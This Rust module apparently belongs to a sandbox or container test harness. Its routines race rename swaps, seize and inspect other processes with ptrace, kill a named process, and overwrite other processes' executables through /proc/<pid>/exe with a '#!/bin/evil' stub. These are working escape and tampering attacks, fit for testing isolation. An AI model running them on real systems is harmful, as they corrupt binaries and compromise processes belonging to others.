//! Attacks that win by being there at the right moment: they go on until they are killed, and print what they found. May touch: the
//! paths they are given, and every process that they can see.

use nix::sys::ptrace;
use nix::unistd::Pid;
use rustix::fs::{CWD, Mode, OFlags, RenameFlags};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::fd::AsRawFd;

/// Exchanges two names for ever (renameat2(2)).
pub fn exchange(one: &str, other: &str) -> Result<(), String> {
    loop {
        rustix::fs::renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).map_err(|e| format!("exchange: {e}"))?;
    }
}

fn processes() -> Vec<i32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|e| e.file_name().to_str()?.parse().ok()).collect()
}

/// Takes hold of what every process executes, and writes into it as soon as that is possible. Prints each file that is not the image's own,
/// and what the kernel answered.
pub fn overwrite() -> Result<(), String> {
    let own = std::process::id().cast_signed();
    loop {
        for pid in processes().into_iter().filter(|p| *p != own) {
            let link = format!("/proc/{pid}/exe");
            let Ok(held) = rustix::fs::open(&link, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else {
                continue;
            };
            let name = fs::read_link(format!("/proc/self/fd/{}", held.as_raw_fd())).unwrap_or_default();
            // A file of the image is the container's own to write.
            if name.starts_with("/bin") {
                continue;
            }
            let again = format!("/proc/self/fd/{}", held.as_raw_fd());
            let mut answer = rustix::io::Errno::TXTBSY;
            // What is executed cannot be written; once it has ended it can.
            for _ in 0..200_000 {
                match rustix::fs::open(&again, OFlags::WRONLY | OFlags::CLOEXEC, Mode::empty()) {
                    Ok(file) => {
                        let wrote = rustix::io::write(&file, b"#!/bin/evil\n");
                        println!("OVERWRITTEN {} {wrote:?}", name.display());
                        break;
                    }
                    Err(rustix::io::Errno::TXTBSY) => {}
                    Err(other) => {
                        answer = other;
                        break;
                    }
                }
            }
            println!("held {}: {answer:?}", name.display());
        }
    }
}

/// What a process shows of itself to one that may trace it.
fn look(pid: i32) -> String {
    let descriptors: Vec<String> = fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            let target = fs::read_link(e.path()).ok()?;
            Some(format!("{}={}", e.file_name().to_string_lossy(), target.display()))
        })
        .collect();
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let field = |name: &str| {
        let line = status.lines().find_map(|l| l.strip_prefix(name)).unwrap_or_default();
        line.trim().to_owned()
    };
    let link = |what: &str| {
        fs::read_link(format!("/proc/{pid}/{what}"))
            .map(|l| l.display().to_string())
            .unwrap_or_default()
    };
    format!(
        "exe={} root={} cwd={} bounding={} permitted={} seccomp={} nnp={} fd={}",
        link("exe"),
        link("root"),
        link("cwd"),
        field("CapBnd:"),
        field("CapPrm:"),
        field("Seccomp:"),
        field("NoNewPrivs:"),
        descriptors.join(",")
    )
}

/// What came of one attempt at a process.
enum Grasp {
    /// It was traced: what it holds.
    Traced(String),
    /// It cannot be traced, but what it holds can be seen.
    Seen(String),
    Refused,
    Gone,
}

fn grasp(pid: i32) -> Grasp {
    let process = Pid::from_raw(pid);
    match ptrace::seize(process, ptrace::Options::empty()) {
        Ok(()) => {
            let _ = ptrace::interrupt(process);
            let _ = nix::sys::wait::waitpid(process, Some(nix::sys::wait::WaitPidFlag::__WALL));
            let held = look(pid);
            let _ = ptrace::detach(process, None);
            Grasp::Traced(held)
        }
        Err(_) if fs::read_dir(format!("/proc/{pid}/fd")).is_ok() => Grasp::Seen(look(pid)),
        Err(nix::errno::Errno::ESRCH) => Grasp::Gone,
        Err(_) => Grasp::Refused,
    }
}

/// Traces every new process as soon as it lets itself be traced, and looks at what it holds. Prints a line for each process that let itself
/// be traced or looked into: how, and what was seen.
pub fn seize() -> Result<(), String> {
    let own = std::process::id().cast_signed();
    let mut done: BTreeSet<i32> = processes().into_iter().chain([own]).collect();
    let mut seen: BTreeMap<i32, String> = BTreeMap::new();
    loop {
        let now: BTreeSet<i32> = processes().into_iter().collect();
        // A number may come again, for another.
        done.retain(|p| now.contains(p));
        seen.retain(|p, _| now.contains(p));
        for pid in now.difference(&done.clone()) {
            // Again and again, for a moment later it may be something else; and, when others have had their turn, until it is traced or gone.
            for _ in 0..50 {
                match grasp(*pid) {
                    Grasp::Traced(held) => {
                        println!("seized {pid} {held}");
                        done.insert(*pid);
                        break;
                    }
                    Grasp::Gone => break,
                    Grasp::Seen(held) if seen.get(pid) != Some(&held) => {
                        println!("saw {pid} {held}");
                        seen.insert(*pid, held);
                    }
                    Grasp::Seen(_) | Grasp::Refused => {}
                }
            }
        }
    }
}

/// Waits for a process with this word among its arguments, traces it, kills it, and never lets it go.
pub fn hold(word: &str) -> Result<(), String> {
    let own = std::process::id().cast_signed();
    let has_word = |pid: &i32| {
        let words = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        words.split(|b| *b == 0).any(|w| w == word.as_bytes())
    };
    let process = loop {
        if let Some(pid) = processes().into_iter().filter(|p| *p != own).find(has_word) {
            break Pid::from_raw(pid);
        }
    };
    ptrace::seize(process, ptrace::Options::empty()).map_err(|e| format!("seize: {e}"))?;
    nix::sys::signal::kill(process, nix::sys::signal::SIGKILL).map_err(|e| format!("kill: {e}"))?;
    println!("held");
    loop {
        std::thread::park();
    }
}
